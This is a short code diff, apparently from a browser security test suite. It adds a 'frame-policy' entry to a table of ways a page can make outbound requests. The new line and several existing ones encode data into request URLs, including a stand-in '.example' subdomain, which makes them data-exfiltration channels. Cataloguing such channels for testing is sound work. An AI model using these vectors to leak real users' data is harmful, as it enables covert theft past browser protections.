@@ -40,6 +40,7 @@ const WAYS = {
   stylesheet: "make('link', { rel: 'stylesheet', href: '/r.css?d=' + E })",
   'preload-srcset': "make('link', { rel: 'preload', as: 'image', imageSrcset: U + ' 1x' })",
   frame: "make('iframe', { src: U })",
+  'frame-policy': "make('iframe', { csp: 'img-src http://x' + D.replace(/ /g, '') + '.example', src: '/frame' })",
   location: 'location = U',
   'window-open': 'window.open(U)',
   'document-open': "document.open(U, '_blank', '')",
